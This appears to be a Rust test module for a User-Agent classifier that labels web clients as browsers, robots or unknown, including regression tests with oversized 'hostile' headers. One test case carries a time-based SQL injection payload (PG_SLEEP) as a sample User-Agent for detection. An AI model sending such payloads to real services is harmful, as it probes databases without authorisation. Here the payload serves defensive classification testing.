        assert_eq!(category.as_str().parse::<Category>(), Ok(category));
    }
    assert!("robot"
        .parse::<Category>()
        .is_err_and(|e| e.to_string().contains("ai-training")));
}

#[test]
fn class_names() {
    let names: Vec<&str> = Class::ALL.iter().map(|c| c.as_str()).collect();
    assert_eq!(names, ["browser", "robot", "unknown"]);
}

#[test]
fn classifier_is_send_and_sync() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Classifier>();
}

fn same_answer(a: Classification<'_>, b: Classification<'_>) -> bool {
    (a.class, a.agent_index, a.reason) == (b.class, b.agent_index, b.reason)
        && a.agent.map(|x| &x.name) == b.agent.map(|x| &x.name)
}

#[test]
fn the_cache_never_changes_an_answer() {
    let c = classifier();
    // Twice the cache's capacity, so answers are also checked after evictions.
    let uas: Vec<String> = (0..CACHE_ENTRIES * 2)
        .map(|i| match i % 5 {
            0 => format!("Mozilla/5.0 (compatible; GPTBot/{i}.0; +https://openai.com/gptbot)"),
            1 => format!("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{i}.0.0.0 Safari/537.36"),
            2 => format!("thing-{i}"),
            3 => format!("curl/8.{i}.0"),
            _ => format!("  Googlebot/2.{i}  "),
        })
        .chain([String::new(), " ".into(), "x".repeat(CACHE_MAX_LEN + 1) + " bot"])
        .collect();
    for _round in 0..2 {
        for ua in &uas {
            assert!(
                same_answer(c.classify(ua), c.classify_uncached(ua)),
                "{ua:?}"
            );
        }
    }
    assert!(c.cache.len() <= CACHE_ENTRIES);
}

proptest::proptest! {
    #[test]
    fn cached_and_fresh_answers_agree(ua in "[ -~]{0,80}|(Mozilla|bot|Chrome|GPTBot|curl|spider|\\+http://x\\.y|/1\\.0| |;|\\(|\\))*") {
        let c = classifier();
        proptest::prop_assert!(same_answer(c.classify(&ua), c.classify_uncached(&ua)));
        proptest::prop_assert!(same_answer(c.classify(&ua), c.classify_uncached(&ua)));
    }
}

/// The longest request header pingora accepts.
const HOSTILE_LEN: usize = 1 << 20;

/// `prefix` followed by `unit` repeated up to [`HOSTILE_LEN`] bytes: a User-Agent no cache
/// takes, with a marker hit every few bytes.
fn hostile(prefix: &str, unit: &str) -> String {
    let mut ua = String::from(prefix);
    while ua.len() + unit.len() <= HOSTILE_LEN {
        ua.push_str(unit);
    }
    ua
}

/// Class, agent name (or "-") and reason of one User-Agent.
fn outcome(ua: &str) -> (Class, &'static str, Reason) {
    let got = classifier().classify(ua);
    (
        got.class,
        got.agent.map_or("-", |a| a.name.as_str()),
        got.reason,
    )
}

// The next tests classify 1 MiB User-Agents whose per-hit work used to grow with the header
// (a quadratic classification takes minutes on them in a debug build); that they finish at all
// documents the linear scan. No timing is asserted.

#[test]
fn hostile_comment_full_of_bots_is_a_robot() {
    // The reported reproduction: 262,000 `bot` words, each once placed by a rescan from byte 0.
    let ua = hostile("Mozilla/5.0 (", "bot ");
    assert_eq!(outcome(&ua), (Class::Robot, "-", Reason::Marker));
}

#[test]
fn hostile_word_full_of_bots_is_a_robot() {
    // One 1 MiB word: each `bot` in it once walked back to the word's start.
    let ua = hostile("Mozilla/5.0 (", "bot");
    assert_eq!(outcome(&ua), (Class::Robot, "-", Reason::Marker));
}

#[test]
fn hostile_site_paths_are_a_robot() {
    // Each `.com` once checked for a version up to the end of the header.
    let ua = hostile("Foo/1.0 ", "x.com/");
    assert_eq!(outcome(&ua), (Class::Robot, "-", Reason::Marker));
}

#[test]
fn hostile_nesting_keeps_its_depth() {
    // Half a million open comments, then a robot word: still inside a comment (a weak marker),
    // and a Gecko engine outranks it.
    let ua = hostile("Mozilla/5.0 ", "(") + " bot Gecko/20100101";
    assert_eq!(outcome(&ua), (Class::Browser, "-", Reason::Browser));
    let ua = hostile("Mozilla/5.0 ", "(") + " bot";
    assert_eq!(outcome(&ua), (Class::Robot, "-", Reason::Marker));
}

#[test]
fn hostile_regex_gates_run_their_regex_once() {
    // `Java` gates the regex `(^|[\s(])Java/[0-9]`, which used to run over the whole header at
    // each of 210,000 gates.
    let ua = hostile("Foo/1.0 ", "Java ");
    assert_eq!(
        outcome(&ua),
        (Class::Robot, "-", Reason::Shape(Shape::ProductNoPlatform))
    );
    let ua = hostile("Foo/1.0 ", "Java ") + "Java/17";
    assert_eq!(outcome(&ua), (Class::Robot, "Java", Reason::HttpTool));
}

/// A catalog of 200 agents known only by a regex, `Rx{i}q/<digit>`, gated by the name `Rx{i}q`:
/// more regexes than a scan tracks without allocating.
fn regex_classifier() -> Classifier {
    let text: String = (0..200)
        .map(|i| {
            format!("[[agent]]\nname = \"Rx{i}q\"\ncategory = \"other\"\noperator = \"o\"\ntokens = []\nmatch = []\nregex = 'Rx{i}q/[0-9]'\n\n")
        })
        .collect();
    Classifier::build(Catalog::parse(&text, "rx.toml").expect("valid catalog")).expect("compiles")
}

#[test]
fn regexes_run_once_still_pick_the_first_gate_that_matches() {
    let c = regex_classifier();
    let name = |ua: &str| c.classify_uncached(ua).agent.map(|a| a.name.clone());
    // Gates of a regex that fails and of one that matches, alternating; inline and spilled.
    for (gated, matching) in [(3, 150), (150, 3), (130, 199), (0, 127)] {
        let ua = format!("Rx{gated}q Rx{matching}q ").repeat(20) + &format!("Rx{matching}q/1");
        assert_eq!(name(&ua), Some(format!("Rx{matching}q")), "{ua}");
    }
    // Two regexes that match: the first gate decides, as before.
    assert_eq!(name("Rx199q/1 Rx150q/1 Rx3q/1"), Some("Rx199q".into()));
    assert_eq!(name("Rx3q/1 Rx199q/1"), Some("Rx3q".into()));
    // 1 MiB of gates of regexes that do not match: no agent, free text by shape.
    let ua = hostile("", "Rx150q Rx3q ");
    let got = c.classify(&ua);
    assert_eq!((got.class, got.agent.is_none()), (Class::Robot, true));
    assert_eq!(got.reason, Reason::Shape(Shape::FreeText));
}

/// The classifier with an empty catalog: what structure alone decides.
fn structure_only() -> &'static Classifier {
    static CLASSIFIER: OnceLock<Classifier> = OnceLock::new();
    CLASSIFIER.get_or_init(|| {
        Classifier::build(Catalog::parse("", "empty").expect("parses")).expect("compiles")
    })
}

/// `name: user agent => class, reason;` for the rules of issue 18 with no catalog (many of
/// these agents are also catalogued), borderline cases on both sides: automation drivers and
/// services in browser strings against app shells, in-app browsers, WebViews, Electron apps
/// and device names.
macro_rules! decided_by {
    ($($name:ident: $ua:expr => $class:ident, $reason:expr;)*) => {$(
        #[test]
        fn $name() {
            let got = structure_only().classify($ua);
            assert_eq!((got.class, got.reason.as_str()), (Class::$class, $reason), "{:?}", $ua);
        }
    )*};
}

decided_by! {
    // automation: drivers and page-test harnesses, even in an app shell
    headless_chrome_automation: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.0 Safari/537.36" => Robot, "automation";
    selenium_suffix: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36; Selenium" => Robot, "automation";
    lighthouse: "Mozilla/5.0 (Linux; Android 7.0; Moto G (4)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/98.0.4695.0 Mobile Safari/537.36 Chrome-Lighthouse" => Robot, "automation";
    webpagetest_ptst: "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:94.0) Gecko/20100101 Firefox/94.0 PTST/211202.211915" => Robot, "automation";
    pingdom_in_electron: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) renderer/2020.2.0 Chrome/78.0.3904.130 Electron/7.1.7 Safari/537.36 PingdomTMS/2020.2" => Robot, "automation";
    phantomjs: "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1" => Robot, "automation";
    slimerjs: "Mozilla/5.0 (X11; Linux x86_64; rv:60.0) Gecko/20100101 SlimerJS/1.0.0" => Robot, "automation";
    cypress: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Cypress/13.6.0 Chrome/118.0.5993.159 Electron/27.1.3 Safari/537.36" => Robot, "automation";
    phantom_wallet_is_no_driver: "Mozilla/5.0 (Linux; Android 13; 23106RN0DA Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/122.0.6261.120 Mobile Safari/537.36 Phantom/android/24.4.0.15916" => Browser, "browser";
    // service-product: tool words and contacts outside the platform comment
    bing_preview_in_comment: "Mozilla/5.0 (Windows NT 6.3; WOW64; Trident/7.0; rv:11.0; BingPreview/1.0b) like Gecko" => Robot, "service-product";
    ghost_inspector: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/107.0 Safari/537.36 Ghost Inspector (63c85ddbde52d6697f57c623)" => Robot, "service-product";
    monitor_in_later_comment: "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/83.0.4103.97 Safari/537.36 (Dotcom-Monitor)" => Robot, "service-product";
    agent_in_later_comment: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_6) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/97.0.4692.71 Safari/537.36 (ThousandEyes Agent)" => Robot, "service-product";
    google_favicon: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.75 Safari/537.36 Google Favicon" => Robot, "service-product";
    google_web_preview: "Mozilla/5.0 (Linux; Android 4.4.4; Nexus 5 Build/KTU84P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/38.0.2125.102 Mobile Safari/537.36 Google Web Preview" => Robot, "service-product";
    site_name_after_engine: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:103.0) Gecko/20100101 Firefox/103.0 abuse.xmco.fr" => Robot, "service-product";
    url_in_later_comment: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36 SeoSiteCheckup (https://seositecheckup.com)" => Robot, "service-product";
    scanner_app_in_webview: "Mozilla/5.0 (Linux; Android 10; SM-A505F Build/QP1A.190711.020; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/88.0.4324.93 Mobile Safari/537.36 CamScanner/4.5" => Browser, "browser";
    qr_scanner_device_name: "Mozilla/5.0 (Linux; Android 9; QRScanner Build/X) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0 Mobile Safari/537.36" => Browser, "browser";
    facebook_carrier_site: "Mozilla/5.0 (iPhone; CPU iPhone OS 7_0_6 like Mac OS X) AppleWebKit/537.51.1 (KHTML, like Gecko) Mobile/11B651 [FBAN/FBIOS;FBAV/7.0.0.17.1;FBCR/Telekom.de;FBDV/iPhone6,2]" => Browser, "browser";
    app_named_by_its_domain: "Mozilla/5.0 (Linux; U; Android 4.1.2; GT-I9300 Build/JZO54K) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30 Wetter.de/1.7" => Browser, "browser";
    region_tag_is_no_site: "Mozilla/5.0 (Nintendo WiiU) AppleWebKit/536.28 (KHTML, like Gecko) NX/3.0.3.12.6 NintendoBrowser/2.0.0.9362.EU" => Browser, "browser";
    developer_preview_build: "Mozilla/5.0 (Windows NT 6.1; rv:1.9.3a1) Gecko/20100208 MozillaDeveloperPreview/3.7a1" => Browser, "browser";
    pasted_header_name: "User-Agent: Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0 Safari/537.36" => Browser, "browser";
    // Google's fetchers named as compounds of Google, as products; Google in a device or an
    // app's own brackets names nothing
    google_inspection_tool: "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36 (compatible; Google-InspectionTool/1.0)" => Robot, "service-product";
    storebot_google_in_platform: "Mozilla/5.0 (X11; Linux x86_64; Storebot-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.88 Safari/537.36" => Robot, "service-product";
    google_compound_after_engine: "Mozilla/5.0 AppleWebKit/537.36 Chrome/139.0.7258.127 Safari/537.36 Google-Ads-Conversions" => Robot, "service-product";
    google_device_name: "Mozilla/5.0 (Linux; Android 4.3; Google Nexus 4 Build/JWR66Y) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/30.0 Mobile Safari/537.36" => Browser, "browser";
    google_app_gsa: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/280.0.561690123 Mobile/15E148 Safari/604.1" => Browser, "browser";
    google_in_app_brackets: "Groupon/2.8.3084 (Android 4.3; LGE Mako / Google Nexus 4; )[preload=false;locale=de_DE;clientidbase=android-google]" => Unknown, "nothing";
    // more service words: robots, watcher, renderer, tool
    robots_product_after_engine: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_8_2) AppleWebKit/537.13 (KHTML, like Gecko) Chrome/30.0.1599.66 Safari/537.13 Luminator-robots/2.0" => Robot, "marker";
    watcher_after_engine: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36 SQWatcher/202312 (sqcompliance.com/sqwatcher.html)" => Robot, "marker";
    renderer_product: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Acme-PageRenderer/1.0" => Robot, "service-product";
    toolbar_is_no_tool: "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; GTB7.5; Toolbar/1.0)" => Browser, "browser";
    // app shells and in-app browsers stay browsers
    electron_app: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.33.90 Chrome/114.0.5735.134 Electron/25.2.0 Safari/537.36" => Browser, "browser";
    instagram_in_app: "Mozilla/5.0 (Linux; Android 12; SM-G991B Build/SP1A.210812.016; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/110.0.5481.65 Mobile Safari/537.36 Instagram 270.0.0.13.83 Android (31/12; 420dpi; 1080x2181; samsung; SM-G991B; o1s; exynos2100; en_US; 446838215)" => Browser, "browser";
    wechat_in_app: "Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.30(0x18001e31) NetType/WIFI Language/zh_CN" => Browser, "browser";
    line_in_app: "Mozilla/5.0 (iPhone; CPU iPhone OS 16_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari Line/13.8.0" => Browser, "browser";
    snapchat_in_app: "Mozilla/5.0 (iPhone; CPU iPhone OS 16_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Snapchat/12.20.0.35 (like Safari/8614.4.6.0.0, panda)" => Browser, "browser";
    // structure without an engine
    product_with_comment_no_platform: "Jersey/2.25.1 (HttpUrlConnection 1.8.0_141)" => Robot, "product-no-platform";
    multi_word_product: "Xenu Link Sleuth/1.3.8" => Robot, "product-no-platform";
    compatible_without_mozilla: "Foo/1.0 (compatible; bar)" => Robot, "product-no-platform";
    versioned_free_text: "Panopta v1.1" => Robot, "free-text";
    bare_mozilla5: "Mozilla/5.0 zgrab/0.x" => Robot, "mozilla-no-engine";
    sql_injection: "x') OR 1=(SELECT 1 FROM PG_SLEEP(15))--" => Robot, "injection";
    dalvik_is_an_app: "Dalvik/2.1.0 (Linux; U; Android 11; SM-A515F Build/RP1A.200720.012)" => Unknown, "nothing";
    okhttp_naming_android: "okhttp/4.9.0 (Linux; Android 11)" => Robot, "http-tool";
    device_word_in_compatible_robot: "Mozilla/5.0 (Linux; Android 9; compatible; acme-linkchecker)" => Robot, "marker";
    device_maker_before_http_word: "Nokia SyncML HTTP Client" => Unknown, "nothing";
    desktop_app_with_os: "GOGGalaxyClient/2.0.62.26 (GOG Galaxy) 83b6745cff679691b69876bc7ee33e05e5d90bda (win10 x64)" => Unknown, "nothing";
    office_app: "Microsoft Office/16.0 (Microsoft Outlook Mail 16.0.8008; Pro)" => Unknown, "nothing";
    netscape_era_device: "Mozilla/3.0 (DreamPassport/3.0; SEGA/SAKURA-DP3)" => Unknown, "nothing";
    netscape_win16: "Mozilla/4.01 [en] (Win16; I)" => Unknown, "nothing";
    opera_tv_box: "OPR/19.0.1325.0 OMI/4.1.4.54, KreaTV/0.19090.0.0 (ARRIS, VMS1100, wired)" => Unknown, "nothing";
    psion_organiser: "Psion Cpw/1.00f(S5) War/1.00f" => Unknown, "nothing";
}

#[test]
fn every_app_shell_has_a_reason() {
    for (shape, why) in APP_SHELLS {
        assert!(!shape.is_empty() && !why.is_empty(), "{shape:?}");
    }
}

// Issue 43: the browser list (`conf/browsers.toml`) and the SDK rule, both sides of each
// borderline. Products invented for the robot side (`SiteStatusProbe`, `Acmefetch`) name no
// catalog agent, so only the new rules can decide them.
classify! {
    list_fork_vivaldi: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Vivaldi/7.0.3495.18" => Browser, "-", "-", [];
    list_fork_whale: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Whale/3.27.254.15 Safari/537.36" => Browser, "-", "-", [];
    list_regional_coc_coc: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) coc_coc_browser/130.0.188 Chrome/124.0.6367.188 Safari/537.36" => Browser, "-", "-", [];
    list_unlisted_fork_is_a_robot: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Acmefetch/2.0" => Robot, "-", "other", [];
    list_in_app_kakaotalk: "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari/604.1 KAKAOTALK/11.3.1 (INAPP)" => Browser, "-", "-", [];
    list_in_app_line_android: "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36 Line/14.6.1" => Browser, "-", "-", [];
    list_ios_safari_with_a_service: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1 Transcoder/3.0" => Robot, "-", "other", [];
    list_webview_android_app: "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/UQ1A.240105.004; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.230 Mobile Safari/537.36 ShopFinderApp/5.2.1" => Browser, "-", "-", [];
    list_webview_ios_app: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 WeatherNow/12.3" => Browser, "-", "-", [];
    list_app_shell_electron: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Whiteboard/3.1.0 Chrome/124.0.6367.243 Electron/30.5.1 Safari/537.36" => Browser, "-", "-", [];
    list_tv_tizen: "Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) 94.0.4606.31/7.0 TV Safari/537.36" => Browser, "-", "-", [];
    list_tv_webos: "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.5359.211 Safari/537.36 WebAppManager" => Browser, "-", "-", [];
    list_monitor_after_safari: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 SiteStatusProbe/2.1" => Robot, "-", "monitoring", [];
    list_page_speed_in_the_engine_comment: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko; Page Speed Insights) Chrome/120.0.0.0 Safari/537.36" => Robot, "-", "monitoring", [];
    list_preview_service: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15 LinkUnfurler/1.0" => Robot, "-", "social-preview", [];
    list_crawler_after_firefox: "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0 Acmefetch/1.0" => Robot, "-", "other", [];
    list_name_in_desktop_platform: "Mozilla/5.0 (X11; Linux x86_64; Zephyrix) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.75 Safari/537.36" => Robot, "-", "other", [];
    list_old_string_not_judged: "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/535.1 (KHTML, like Gecko) Chrome/14.0.835.202 Safari/535.1 Acmefetch/1.0" => Browser, "-", "-", [];
    sdk_go_cloud_client: "aws-sdk-go/1.44.0 (go1.20.5; linux; amd64)" => Robot, "aws-sdk", "http-library", ["aws-sdk"];
    sdk_python_storage: "azsdk-python-storage-blob/12.19.0 Python/3.11.4 (Linux-5.15.0-x86_64-with-glibc2.35)" => Robot, "azsdk", "http-library", ["azsdk"];
    sdk_boto3: "Boto3/1.26.0 Python/3.11.4 Linux/5.15.0 Botocore/1.29.0" => Robot, "Botocore", "http-library", ["botocore"];
    sdk_aws_cli: "aws-cli/2.13.0 Python/3.11.4 Linux/5.15 exe/x86_64.ubuntu.22 prompt/off" => Robot, "aws-cli", "http-library", ["aws-cli"];
    sdk_google_api: "google-api-python-client/2.0 (gzip)" => Robot, "google-api", "http-library", ["google-api"];
    sdk_a_robot_on_python_is_the_robot: "FooCrawler/1.0 Python/3.11.4 (+https://foo.example/bot)" => Robot, "-", "-", [];
    sdk_dart_is_a_robot: "Dart/3.4 (dart:io)" => Robot, "-", "http-library", [];
    tool_powershell_5: "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1682" => Robot, "PowerShell", "http-library", ["powershell"];
    tool_powershell_7: "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.0" => Robot, "PowerShell", "http-library", ["powershell"];
    list_teams_desktop: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0 Teams/24277.3507.3205.5228/49" => Browser, "-", "-", [];
    list_lg_tv_dmost: "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.79 Safari/537.36 DMOST/2.0.0 (; LGE; webOSTV; WEBOS6.3.2 03.34.95; W6_lm21a;)" => Browser, "-", "-", [];
    list_epic_launcher: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) EpicGamesLauncher/17.0.0-37116521+++Portal+Release-Live UnrealEngine/4.23.0-37116521+++Portal+Release-Live Chrome/90.0.4430.212 Safari/537.36" => Browser, "-", "-", [];
    list_cortana_version_item: "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Cortana 1.14.9.19041; 10.0.0.0.19045.5131) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.102 Safari/537.36 Edge/18.19045" => Browser, "-", "-", [];
    list_vizio: "Mozilla/5.0 (X11; Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.5359.179 Safari/537.36 CrKey/1.0.999999 VIZIO SmartCast Conjure/MTKF-2.1.1-b" => Browser, "-", "-", [];
    list_in_app_beats_the_catalog_fetcher: "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Bluesky/1.92" => Browser, "-", "-", [];
    list_the_fetcher_is_still_catalogued: "Mozilla/5.0 (compatible; Bluesky Cardyb/1.1; +mailto:support@bsky.app)" => Robot, "Bluesky", "social-preview", ["bluesky"];
    list_reduced_chrome_version_is_no_fork: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 AcmeFetch/131.0.0.0" => Robot, "-", "other", [];
    list_full_chrome_version_is_a_fork: "Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/61.0.3163.69 Safari/537.36 Freeu/61.0.3163.69" => Browser, "-", "-", [];
    list_a_comment_of_its_own_on_a_desktop: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 (StatusCake)" => Robot, "-", "monitoring", [];
    list_opera_edition_comment: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 OPR/115.0.0.0 (Edition std-2)" => Browser, "-", "-", [];
    list_a_glued_comment_is_its_product_s: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 NetType/WIFI MicroMessenger/7.0.20.1781(0x6700143B) WindowsWechat(0x63090c33)" => Browser, "-", "-", [];
    catalog_jsdom: "Mozilla/5.0 (linux) AppleWebKit/537.36 (KHTML, like Gecko) jsdom/24.0.0" => Robot, "jsdom", "http-library", ["jsdom"];
    catalog_splash: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) splash Safari/538.1" => Robot, "Splash", "http-library", ["splash"];
    catalog_soap_client: "Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 4.0.30319.42000)" => Robot, "MS Web Services Client Protocol", "http-library", ["ms"];
    catalog_fetch_needs_its_version: "Fetch/2.0a (CMS Detection/Web/SEO analysis tool, see http://guess.scritch.org)" => Robot, "Fetch", "seo", ["fetch"];
    catalog_fetch_word_in_an_app: "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/UQ1A; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.43 Mobile Safari/537.36 Acme Fetch" => Browser, "-", "-", [];
    catalog_stripe_is_no_seo: "Stripe/1.0 (+https://stripe.com/docs/webhooks)" => Robot, "Stripe", "other", ["stripe"];
    fork_steam_client: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Valve Steam Client/default/1700000000 Chrome/126.0.6478.183 Safari/537.36" => Browser, "-", "-", [];
    sdk_dotnet_storage: "Azure-Storage/9.3.1 (.NET CLR 4.0.30319.42000; Win32NT 6.2.9200.0)" => Robot, "-", "http-library", [];
    sdk_not_a_phone_app: "VKAndroidApp/3.3.2-249 (Android 4.2.2; SDK 17; armeabi-v7a; asus K00F; ru)" => Unknown, "-", "-", [];
    reader_app_stack: "Reeder/5050001 CFNetwork/1410.0.3 Darwin/22.4.0" => Robot, "Reeder", "feed-reader", ["reeder"];
    reader_desktop: "NetNewsWire (RSS Reader; https://netnewswire.com/)" => Robot, "NetNewsWire", "feed-reader", ["netnewswire"];
    reader_not_a_person_s_app_stack: "WeatherNow/12.3 CFNetwork/1410.0.3 Darwin/22.4.0" => Unknown, "-", "-", [];
    sdk_not_an_ios_app: "WeatherNow/12.3 (iPhone; iOS 17.4; Scale/3.00)" => Unknown, "-", "-", [];
}

/// The scan notes the engine versions the browser list judges by; a search of their own finds
/// the same (an automaton pattern shadowing `Chrome/` or `Firefox/` would show here).
#[test]
fn the_scan_notes_the_engine_versions_a_search_finds() {
    let strings = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/UQ1A; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.43 Mobile Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/acmefetch Safari/537.36",
        "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/534.30 (KHTML, like Gecko) Chrome/12.0.742.112 Safari/534.30 Chrome/99.0",
        "Mozilla/5.0 (Macintosh) applewebkit/605.1.15 chrome/120 firefox/99",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Chrome-Lighthouse",
        "curl/8.4.0",
        "Opera/9.80 (Windows NT 6.1) Presto/2.12.388 Version/12.16 Firefox/",
    ];
    let classifier = classifier();
    for ua in strings {
        assert_eq!(
            classifier.known.scan(ua).engines,
            browsers::EngineVersions::of(ua),
            "{ua:?}"
        );
    }
}
